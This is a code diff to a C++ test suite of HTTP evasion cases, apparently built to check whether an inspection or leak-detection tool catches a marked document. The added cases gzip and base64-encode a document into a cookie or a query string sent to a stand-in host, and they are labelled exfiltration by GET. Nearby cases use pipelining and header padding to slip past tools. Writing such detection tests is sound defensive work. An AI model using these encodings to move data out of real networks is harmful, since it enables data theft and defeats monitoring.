@@ -1,4 +1,6 @@
 // Tricks with the framing of HTTP: where a body ends, what its coding is, which of two fields counts; and its younger relatives.
+#include <sodium.h>
+
 #include <cstdio>
 
 #include "tests/evasion/evasion.h"
@@ -10,6 +12,12 @@ namespace {
 using decode::GzipEncode;
 using decode::ZlibEncode;
 
+std::string InBase64(const std::string& bytes, int variant) {
+  std::string coded(sodium_base64_encoded_len(bytes.size(), variant), '\0');
+  sodium_bin2base64(coded.data(), coded.size(), reinterpret_cast<const unsigned char*>(bytes.data()), bytes.size(), variant);
+  coded.pop_back();
+  return coded;
+}
 Wire Sent(std::string_view stream, size_t segment = 1400) { return std::move(Wire().Open().Send(stream, segment)); }
 
 std::string Post(std::string_view fields, std::string_view body) {
@@ -152,6 +160,8 @@ std::vector<Evasion> HttpEvasions() {
       {"http/second-request", "the mark in the second of three pipelined requests", kFraming, Sent(Put("clean") + Put(text) + Put("clean"))},
       {"http/expect-continue", "the body without waiting for 100 Continue", "RFC 9110, 10.1.1", Sent(Put(text, "Expect: 100-continue\r\n"))},
       {"http/mark-in-target", "the mark percent-encoded in the target", "exfiltration by GET", Sent("GET /q?d=" + Percent(kMark) + "10 HTTP/1.1\r\nHost: files.example\r\n\r\n")},
+      {"http/document-in-cookie", "the document in a cookie, in gzip and base64", "exfiltration by GET", Sent("GET / HTTP/1.1\r\nHost: files.example\r\nCookie: a=b; s=" + InBase64(decode::GzipEncode(Document()), sodium_base64_VARIANT_ORIGINAL) + "\r\n\r\n")},
+      {"http/document-in-query", "the document in a query, in gzip and base64url", "exfiltration by GET", Sent("GET /t.gif?d=" + InBase64(decode::GzipEncode(Document()), sodium_base64_VARIANT_URLSAFE_NO_PADDING) + "&n=1 HTTP/1.1\r\nHost: files.example\r\n\r\n")},
       {"http/mark-in-cookie", "the mark in a cookie, in base64", "exfiltration by GET", Sent("GET / HTTP/1.1\r\nHost: files.example\r\nCookie: s=5py65a+G4piF\r\n\r\n")},
       {"http/long-head", "60,000 bytes of fields before the mark's", "what tools do",
        Sent("GET / HTTP/1.1\r\nHost: files.example\r\nX-Pad: " + std::string(60000, 'p') + "\r\nX-Note: " + std::string(kMark) + "\r\n\r\n"), Demand::kFound, Demand::kFound},
